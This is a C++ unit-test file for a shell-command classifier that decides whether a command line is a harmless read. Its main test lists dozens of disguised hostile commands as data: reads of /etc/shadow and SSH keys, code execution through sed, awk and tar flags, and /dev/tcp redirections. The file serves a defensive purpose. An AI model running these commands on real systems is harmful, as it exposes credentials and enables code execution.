// SPDX-License-Identifier: Apache-2.0
// Ways to make a dangerous call look like a read. Each has to end in something else than "read".
#include <gtest/gtest.h>

#include "policy/catalog/paths.h"
#include "policy/classify.h"

namespace ptygate::policy {
namespace {

constexpr EffectSet kHarmless{Effect::Read, Effect::Cwd};

bool looksLikeARead(std::string_view line, std::string_view cwd = "/srv/app") {
  const Classification found = classify(Catalog::builtin(), line, Dialect::Bash, cwd);
  return found.opaque.empty() && found.effects.within(kHarmless);
}

TEST(Refusals, NoBypassLooksLikeARead) {
  for (const char* line : {
           // spellings of a secret path
           "cat /etc/shadow",
           "cat /etc//shadow",
           "cat //etc/shadow",
           "cat /etc/./shadow",
           "cat /tmp/../etc/shadow",
           "cat ../../etc/shadow",
           "cd /etc && cat shadow",
           "cd /; cat etc/shadow",
           "cd /etc/ssl; cat ../shadow",
           "(cd /etc); cat shadow",
           "cat /etc/shado?",
           "cat /etc/sh*",
           "cat /proc/self/root/etc/shadow",
           "cat /proc/1/root/etc/shadow",
           "cat /dev/fd/0",
           "cat ~root/.ssh/id_rsa",
           "cat ~/.ssh/id_rsa",
           "cat $HOME/.ssh/id_rsa",
           "cat '~root/.ssh/id_rsa'",
           "cat /home/a/.SSH/id_rsa",
           "cat /var/run/../etc/shadow",
           "cat /etc/shadow-",
           "cat /etc/shadow~",
           "cat /var/backups/shadow.bak",
           "cat .env.production",
           "cat /root/x",
           "cat id_ed25519",
           "cat x.pem",
           "cat .bash_history",
           "cat .git/config",
           "cat /run/secrets/db",
           "head -c100 /etc/shadow",
           "wc /etc/shadow",
           "tail -n+1 /etc/shadow",
           "cut -c1- /etc/shadow",
           "sort /etc/shadow",
           "uniq /etc/shadow",
           "diff /etc/shadow /dev/null",
           "nl /etc/shadow",
           "tac /etc/shadow",
           "rev /etc/shadow",
           "xxd /etc/shadow",
           "strings /etc/shadow",
           "jq -R . /etc/shadow",
           "awk '{print}' /etc/shadow",
           "sed -n 1p /etc/shadow",
           "grep . /etc/shadow",
           "grep -f /etc/shadow x",
           "grep -r . /etc",
           "grep -r .",
           "grep -R root /",
           "cmp /etc/shadow x",
           "sha256sum .env",
           "cat < /etc/shadow",
           "tee < /etc/shadow",
           "tar cf - /root",
           "tar czf /tmp/x /home",
           "find / -name x",
           "find /root",
           "dd if=/etc/shadow",
           "zcat /etc/shadow",
           "column /etc/shadow",
           "comm /etc/shadow x",
           "file -f /etc/shadow",
           "date -f /etc/shadow",
           "wc --files0-from=/etc/shadow",
           "du --files0-from=x",
           "sort --files0-from=x",
           "diff --from-file=.env x",
           // flags that do more
           "sort -o x a",
           "sort --out=x a",
           "sort -T/etc a",
           "git log --output=x",
           "git log --outpu=x",
           "git log -p --ext-diff",
           "git diff",
           "git status",
           "git show --textconv",
           "git -c core.pager=x log",
           "git -p log",
           "git --exec-path=/tmp log",
           "git grep -Ox foo",
           "git grep --open-files-in-pager=x foo",
           "git branch x",
           "git branch -D x",
           "git tag v1",
           "git diff --cached --output=x",
           "git show HEAD:.env",
           "git show :.env",
           "git log -- .env",
           "git cat-file -p HEAD:id_rsa",
           "git ls-remote ext::x",
           "git archive HEAD",
           "git blame f",
           "git rev-parse --parseopt",
           "git config --list",
           "git remote add x y",
           "git stash",
           "git log -c --remerge-diff",
           "find . -exec cat {} +",
           "find . -fprint x",
           "find . -delete",
           "find . -fls x",
           "find . -ok ls {} ;",
           "sed -i s/a/b/ x",
           "sed 's/a/b/w x' y",
           "sed 's/a/b/e' x",
           "sed -n '1w x' y",
           "sed '1r /etc/shadow' x",
           "sed --in-place=x s/a/b/ y",
           "sed -s -e 1p -e '1e id' x",
           "sed -n '$!N;e id' x",
           "awk 'BEGIN{system(\"id\")}'",
           "awk '{print | \"sh\"}' x",
           "awk '{print > \"x\"}' y",
           "awk '{getline < \"/etc/shadow\"; print}' x",
           "awk -f x y",
           "awk -i inplace '{print}' x",
           "gawk '@load \"x\"' y",
           "jq env x",
           "jq -n '$ENV.A'",
           "jq '$__prog_args' x",
           "jq 'input_filename' x",
           "jq --rawfile a /etc/shadow . x",
           "jq -f x y",
           "xargs cat",
           "ls | xargs cat",
           "curl file:///etc/passwd",
           "tar tf x -I sh",
           "tar tf h:x",
           "tar -tf x --to-command=sh",
           "tar t -F sh -f x",
           "uniq a b",
           "tee x",
           "date -s 1",
           "date 01010000",
           "hostname x",
           "ps auxe",
           "ps eww",
           "env",
           "printenv",
           "top",
           "journalctl --vacuum-time=1s",
           "journalctl --cursor-file=x",
           "systemctl restart x",
           "systemctl show x",
           "systemctl cat x",
           "dmesg -C",
           "ss -K",
           "ip link set x down",
           "docker inspect x",
           "docker exec x ls",
           "kubectl get secrets",
           "dpkg -i x",
           "apt-get install -s ./x.deb",
           "xxd a b",
           "psql -c 'select 1'",
           "less x",
           "man ls",
           "python3 -c 1",
           "sqlite3 x .dump",
           "mount -a",
           "crontab -l",
           "file -C -m x",
           "file -z x",
           "split x",
           "hexdump -C x",
           "base64 /etc/shadow",
           // names of programs
           "strings @x",
           "awk '{print}' /inet/tcp/0/h/80",
           "diff -N /etc x.txt",
           "diff . /tmp/.env",
           "ps -eo environ",
           "sqlite3 x.db 'select edit(1)'",
           "sqlite3 -readonly file:x 'select 1'",
           "npm ls",
           "/tmp/cat x",
           "./cat x",
           "/usr/local/bin/cat x",
           "/bin/../tmp/cat x",
           "/bin//cat x",
           "bin/cat x",
           "CAT x",
           "cat\\ x",
           // redirections and variables
           "echo x > y",
           "echo x >> y",
           "ls 2> y",
           "cat x > /dev/sda",
           "cat x > /dev/tcp/1.2.3.4/5",
           "cat < /dev/tcp/1.2.3.4/5",
           "http_proxy=x ls",
           "x=1 ls",
           "echo <> y",
           // words known only at run time
           "cat \"$x\"",
           "cat $x",
           "cat -- \"$x\"",
           "ls \"$x\"",
           "git log \"$x\"",
           "grep $x a",
           "grep a \"$(ls)\"",
           "head \"$x\"",
           "wc *",
           "for f in a b; do cat \"$f\"; done",
           // wrappers
           "sudo cat x",
           "timeout 5 rm x",
           "nice rm x",
           "env rm x",
           "bash -c 'rm x'",
           "sh -c 'cat /etc/shadow'",
           "timeout --signal=KILL 5 ls",
           "nohup ls",
           "watch ls",
           "ssh h ls",
           "env PATH=/tmp ls",
           "env -i git log",
           "command rm x",
           "timeout 5 sh -c 'timeout 5 sh -c \"rm x\"'",
           "xargs ls",
           "eval ls",
           "exec ls",
           "busybox ls",
       }) {
    EXPECT_FALSE(looksLikeARead(line)) << line;
  }
}

TEST(Refusals, EverydayReadsAreReads) {
  for (const char* line : {"ls -la",
                           "cat README.md",
                           "cat /var/log/syslog | grep -i error | tail -n 20",
                           "git log --oneline -5 | head -5",
                           "ps aux | grep nginx",
                           "df -h && free -m",
                           "head -n20 a.txt",
                           "find . -name '*.log' -mtime -1",
                           "systemctl status nginx",
                           "journalctl -u nginx -n 50",
                           "docker ps -a",
                           "docker logs web --tail 20",
                           "cd src && ls",
                           "cat a 2>/dev/null",
                           "timeout 5 cat a",
                           "bash -c 'ls | wc -l'",
                           "uname -a; id; uptime",
                           "wc -l a b",
                           "stat a",
                           "du -sh .",
                           "ss -tlnp",
                           "sed -n '1,20p' a",
                           "awk '{print $1}' a | sort | uniq -c | sort -rn | head",
                           "for i in 1 2; do echo \"$i\"; done",
                           "cat a | xxd",
                           "dpkg -l | grep ssh"}) {
    const Classification found = classify(Catalog::builtin(), line, Dialect::Bash, "/srv/app");
    std::string why = found.opaque;
    for (const auto& command : found.commands)
      for (const auto& reason : command.reasons) why += "\n  " + reason;
    EXPECT_TRUE(looksLikeARead(line)) << line << " " << why;
  }
}

TEST(Refusals, RelativePathInAnUnknownDirectoryIsUnknown) {
  EXPECT_TRUE(looksLikeARead("cat a", "/srv/app"));
  EXPECT_FALSE(looksLikeARead("cat a", ""));
  EXPECT_FALSE(looksLikeARead("cat shadow", "/etc"));
  EXPECT_FALSE(looksLikeARead("ls", "/proc/1"));
  EXPECT_FALSE(looksLikeARead("cat shadow", "/srv/../etc"));
  EXPECT_FALSE(looksLikeARead("cat a", "/srv/.."));
}

TEST(Refusals, CdInALoopLosesTheDirectory) {
  EXPECT_FALSE(looksLikeARead("for i in 1 2; do cat a; cd sub; done"));
  EXPECT_FALSE(looksLikeARead("cd; cat a"));
  EXPECT_FALSE(looksLikeARead("cd -; cat a"));
  EXPECT_FALSE(looksLikeARead("cd \"$x\"; cat a"));
}

TEST(Pins, ArePutAfterTheNameAndTheSubcommand) {
  const Classification found = classify(Catalog::builtin(), "git log --oneline", Dialect::Bash, "/srv/app");
  EXPECT_EQ(found.canonical_plain, "git log --oneline");
  EXPECT_TRUE(found.canonical.starts_with("git --no-pager -c core.fsmonitor=false -c core.hooksPath=/dev/null")) << found.canonical;
  EXPECT_NE(found.canonical.find("log --no-ext-diff --no-textconv --oneline"), std::string::npos) << found.canonical;
  EXPECT_EQ(found.pins.at("GIT_ALLOW_PROTOCOL"), "none");
}

TEST(Pins, ReachCommandsInsideWrappers) {
  for (const char* line : {"timeout 5 git log", "nice -n 5 timeout 5 git log", "bash -c 'git log'", "timeout 5 sh -c 'ls; git log'"}) {
    const Classification found = classify(Catalog::builtin(), line, Dialect::Bash, "/srv/app");
    EXPECT_TRUE(found.opaque.empty()) << found.opaque;
    EXPECT_NE(found.canonical.find("core.fsmonitor=false"), std::string::npos) << found.canonical;
    EXPECT_TRUE(found.effects.within(kHarmless)) << line;
  }
}

TEST(Pins, AreUnknownWhereTheyCannotReach) {
  for (const char* line : {"sudo git log", "ssh h git log", "env -i git log", "docker exec x git log"}) {
    EXPECT_TRUE(classify(Catalog::builtin(), line, Dialect::Bash, "/srv/app").effects.has(Effect::Unknown)) << line;
  }
}

TEST(Pins, MakeAnSqlReadReadOnly) {
  EXPECT_EQ(classify(Catalog::builtin(), "psql -c 'select 1'", Dialect::Bash, "/").pins.at("PGOPTIONS"),
            "-c default_transaction_read_only=on");
  EXPECT_FALSE(classify(Catalog::builtin(), "psql -c 'delete from t'", Dialect::Bash, "/").pins.contains("PGOPTIONS"));
}

TEST(Stdin, FollowsTheCommandsThatCanReachIt) {
  const struct {
    const char* line;
    StdinClass wanted;
  } rows[] = {{"cat a", StdinClass::None},
              {"cat", StdinClass::Data},
              {"cat -", StdinClass::Data},
              {"grep x", StdinClass::Data},
              {"grep x a", StdinClass::None},
              {"python3 x.py", StdinClass::Code},
              {"python3 x.py < a", StdinClass::None},
              {"ls | python3", StdinClass::None},
              {"cat | python3", StdinClass::Code},
              {"cat | xargs echo", StdinClass::Code},
              {"cat | wc -l", StdinClass::Data},
              {"nosuchprogram", StdinClass::Code},
              {"timeout 5 cat", StdinClass::Data},
              {"bash -c cat", StdinClass::Data},
              {"bash -c 'cat a'", StdinClass::None},
              {"kubectl apply -f -", StdinClass::Code},
              {"psql", StdinClass::Code},
              {"docker exec -i web cat", StdinClass::Code},
              {"cat <<'E'\nx\nE", StdinClass::None},
              {"crontab -", StdinClass::Code},
              {"bash", StdinClass::Code}};
  for (const auto& row : rows)
    EXPECT_EQ(int(classify(Catalog::builtin(), row.line, Dialect::Bash, "/srv/app").stdin_class), int(row.wanted)) << row.line;
}

TEST(Wrappers, NameThemselvesOnTheInnerCommand) {
  const Classification found = classify(Catalog::builtin(), "sudo timeout 5 systemctl restart nginx", Dialect::Bash, "/srv/app");
  ASSERT_EQ(found.commands.size(), 3U);
  EXPECT_EQ(found.commands[1].command.wrapper, "sudo");
  EXPECT_EQ(found.commands[2].command.wrapper, "timeout");
  EXPECT_TRUE(found.commands[2].sudo);
  EXPECT_EQ(found.commands[2].command.via, Via::Wrapper);
}

TEST(CatalogFile, IsRefusedWithFileAndLine) {
  const struct {
    const char* text;
    const char* error;
  } rows[] = {
      {"schema = 2\n", "x.toml:1:"},
      {"schema = 1\n[[program]]\nname = \"a\"\nbsae = []\n", "x.toml:4: unknown key \"bsae\"; did you mean \"base\"?"},
      {"schema = 1\n[[program]]\nname = \"a\"\nbase = [\"raed\"]\n", "x.toml:4: base: unknown effect \"raed\""},
      {"schema = 1\n[[program]]\nname = \"a\"\npins = {prose = \"x\"}\n", "unknown key \"prose\""},
      {"schema = 1\n[[program]]\nname = \"a\"\npins = {owner = [\"x\"]}\n", "unknown key \"owner\""},
      {"schema = 1\n[[program]]\nname = \"a\"\nflags = [\"-abc\"]\n", "style"},
      {"schema = 1\n[[program]]\nname = \"a\"\noperands = [\"nosuch\"]\n", "unknown kind"},
      {"schema = 1\n[[program]]\nname = \"a\"\n[[program]]\nname = \"a\"\n", "described twice"},
      {"schema = 1\n[[program]]\nname = \"a\"\nrules = [{regex = \"(\", effects = []}]\n", "regular expression"},
  };
  for (const auto& row : rows) {
    const auto loaded = Catalog::load({{"x.toml", row.text}});
    ASSERT_FALSE(loaded.has_value()) << row.text;
    EXPECT_NE(loaded.error().find(row.error), std::string::npos) << loaded.error();
  }
}

TEST(Paths, WritingPersists) {
  Cwds cwds{true, {Cwd{"/srv/app", true}}};
  for (const char* path : {".git/hooks/x", ".bashrc", "Makefile", "package.json", "/home/a/.local/bin/x", "/etc/cron.d/x", "/usr/bin/x",
                           "x.sh", ".ssh/authorized_keys", "bin/x"}) {
    EXPECT_TRUE(writePath(path, cwds).effects.has(Effect::Persist)) << path;
  }
  EXPECT_EQ(writePath("out.txt", cwds).effects, EffectSet{Effect::Write});
  EXPECT_TRUE(writePath("/dev/null", cwds).effects.empty());
}

}  // namespace
}  // namespace ptygate::policy
